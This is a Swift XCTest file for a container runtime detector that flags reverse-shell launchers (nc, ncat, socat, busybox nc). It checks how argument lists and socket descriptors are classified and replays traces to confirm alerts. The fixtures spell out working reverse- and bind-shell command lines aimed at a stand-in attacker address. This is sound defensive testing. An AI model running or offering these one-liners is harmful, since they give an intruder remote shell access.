// SPDX-License-Identifier: Apache-2.0
// Launchers (nc, ncat, socat, busybox nc) told to run a program alert only when one end of that
// program is a network socket: what argv says, or, when argv names only local ends or nothing we
// know, what the descriptors and connects say.
import XCTest
@testable import RuntimeWatchCore
import Metrics

final class ReverseShellLauncherTests: XCTestCase {
    private let cid = String(repeating: "ab", count: 32)
    private var cgroup: String { "/kubepods/besteffort/pod0f5e2f1c-7d3a-4c1e-9b8a-1234567890ab/\(cid)" }
    private let attacker = "198.51.100.1"

    // MARK: - argv

    func testEndsFromArgv() {
        typealias M = ReverseShellToolMatcher
        XCTAssertEqual(M.ends(name: "socat", argv: ["socat", "TCP:198.51.100.1:4444", "EXEC:/bin/sh"]), .network)
        XCTAssertEqual(M.ends(name: "socat", argv: ["socat", "tcp4-listen:4444,reuseaddr,fork", "exec:sh,pty"]), .network)
        XCTAssertEqual(M.ends(name: "socat", argv: ["socat", "OPENSSL:h:443,verify=0", "SYSTEM:sh"]), .network)
        XCTAssertEqual(M.ends(name: "socat", argv: ["socat", "STDIO", "EXEC:sh"]), .local)
        XCTAssertEqual(M.ends(name: "socat", argv: ["socat", "-d", "-", "EXEC:/bin/sh,pty,stderr"]), .local)
        XCTAssertEqual(M.ends(name: "socat", argv: ["socat", "UNIX-LISTEN:/tmp/s.sock,fork", "EXEC:sh"]), .local)
        XCTAssertEqual(M.ends(name: "socat", argv: ["socat", "FD:3", "SYSTEM:sh"]), .local)
        XCTAssertEqual(M.ends(name: "socat", argv: ["socat", "WEIRD:x", "EXEC:sh"]), .unknown)
        XCTAssertEqual(M.ends(name: "nc", argv: ["nc", "198.51.100.1", "4444", "-e", "/bin/sh"]), .network)
        XCTAssertEqual(M.ends(name: "nc", argv: ["nc", "-lvp4444", "-e", "/bin/sh"]), .network)
        XCTAssertEqual(M.ends(name: "busybox", argv: ["busybox", "nc", "-e", "sh", "198.51.100.1", "9"]), .network)
        XCTAssertEqual(M.ends(name: "ncat", argv: ["ncat", "--sh-exec", "sh -i", "198.51.100.1", "4444"]), .network)
        XCTAssertEqual(M.ends(name: "ncat", argv: ["ncat", "-lU", "/tmp/s.sock", "--sh-exec", "sh"]), .local)
        XCTAssertEqual(M.ends(name: "ncat", argv: ["ncat", "--unixsock", "/tmp/s.sock", "-e", "/bin/sh"]), .local)
        XCTAssertEqual(M.ends(name: "nc", argv: ["nc", "-e", "/bin/sh"]), .unknown)
    }

    // MARK: - Replays

    private func alerts(_ records: [EventRecord]) -> [Alert] {
        let sink = InMemoryAlertSink()
        var engine = Engine(configuration: EngineConfiguration(hostname: "node-1"), detectors: [ReverseShellDetector()],
                            profile: Profile(), sink: sink, metrics: NOOPMetricsHandler.instance)
        for r in records { engine.process(r) }
        let last = records.last?.timestamp ?? 0
        engine.process(EventRecord(timestamp: last + 5_000_000_000, event: .exit(ExitEvent(pid: ProcessID(99_999), code: 0))))
        engine.finish()
        return sink.alerts.filter { $0.ruleID == "reverse-shell" }
    }

    private func pipe(_ n: Int32, _ inode: UInt64) -> DescriptorInfo { DescriptorInfo(fd: n, kind: .pipe, target: "pipe:[\(inode)]", inode: inode) }
    private func file(_ n: Int32, _ path: String) -> DescriptorInfo { DescriptorInfo(fd: n, kind: .file, target: path) }
    private func unix(_ n: Int32, _ inode: UInt64) -> DescriptorInfo {
        DescriptorInfo(fd: n, kind: .socket, target: "socket:[\(inode)]", inode: inode, socket: .init(family: "unix", proto: "stream"))
    }
    private func inet(_ n: Int32, _ inode: UInt64, port: UInt16) -> DescriptorInfo {
        DescriptorInfo(fd: n, kind: .socket, target: "socket:[\(inode)]", inode: inode,
                       socket: .init(family: "inet", proto: "tcp", localAddress: "10.244.1.5", localPort: 40_000,
                                     remoteAddress: attacker, remotePort: port, state: "ESTABLISHED"))
    }

    /// A tool (pid 200) with `toolFDs` runs sh (201) on a socketpair it holds; `connectPort` adds
    /// an outbound connect by the tool.
    private func launch(_ exe: String, _ argv: [String], toolFDs: [DescriptorInfo], shellFDs: [DescriptorInfo],
                        connectPort: UInt16? = nil) -> [EventRecord] {
        var t = TraceBuilder()
        t.snapshot(100, ppid: 1, exe: "/bin/busybox", cgroup: cgroup, fds: [pipe(0, 1), file(1, "/out"), file(2, "/out")])
        t.fork(parent: 100, child: 200)
        t.exec(200, ppid: 100, exe: exe, argv: argv, cgroup: cgroup, fds: toolFDs)
        if let connectPort {
            t.emit(.connect(ConnectEvent(pid: ProcessID(200), proto: "tcp", remoteAddress: attacker, remotePort: connectPort)))
        }
        t.fork(parent: 200, child: 201)
        t.exec(201, ppid: 200, exe: "/bin/busybox", argv: ["sh"], cgroup: cgroup, fds: shellFDs)
        t.exit(201)
        t.exit(200)
        return t.records
    }

    func testLaunchersBetweenLocalEndsAreQuiet() {
        let stdio = [pipe(0, 10), pipe(1, 11), file(2, "/out")]
        let pair = [unix(0, 20), unix(1, 20), unix(2, 20)]
        for argv in [["socat", "STDIO", "EXEC:sh"], ["socat", "UNIX-LISTEN:/tmp/s.sock", "EXEC:/bin/sh"],
                     ["socat", "-", "SYSTEM:sh,pty"], ["ncat", "-lU", "/tmp/s.sock", "--sh-exec", "sh"]] {
            let exe = argv[0] == "ncat" ? "/usr/bin/ncat" : "/usr/bin/socat"
            XCTAssertEqual(alerts(launch(exe, argv, toolFDs: stdio, shellFDs: pair)).map(\.output), [], "\(argv)")
        }
    }

    /// The same local-looking argv with a network end in the descriptors alerts: socat's stdio is
    /// an inet socket (run by a network listener), or the tool connected out.
    func testLaunchersWithANetworkEndInTheirDescriptorsAlert() {
        let pair = [unix(0, 20), unix(1, 20), unix(2, 20)]
        let socketStdio = (0...2).map { inet(Int32($0), 30, port: 5555) }
        XCTAssertEqual(alerts(launch("/usr/bin/socat", ["socat", "STDIO", "EXEC:sh"], toolFDs: socketStdio, shellFDs: pair)).count, 1)
        XCTAssertEqual(alerts(launch("/usr/bin/socat", ["socat", "WEIRD:x", "EXEC:sh"], toolFDs: [pipe(0, 10), pipe(1, 11), file(2, "/o")],
                                     shellFDs: pair, connectPort: 5556)).count, 1)
        // argv names the network: alerts even when the shell's wiring shows nothing.
        let found = alerts(launch("/usr/bin/socat", ["socat", "TCP:\(attacker):5557", "EXEC:sh"], toolFDs: [pipe(0, 10), pipe(1, 11), file(2, "/o")],
                                  shellFDs: [pipe(0, 12), pipe(1, 13), file(2, "/o")]))
        XCTAssertEqual(found.count, 1)
        XCTAssertEqual(found.first?.fields["fd.rport"], .int(5557))
    }
}
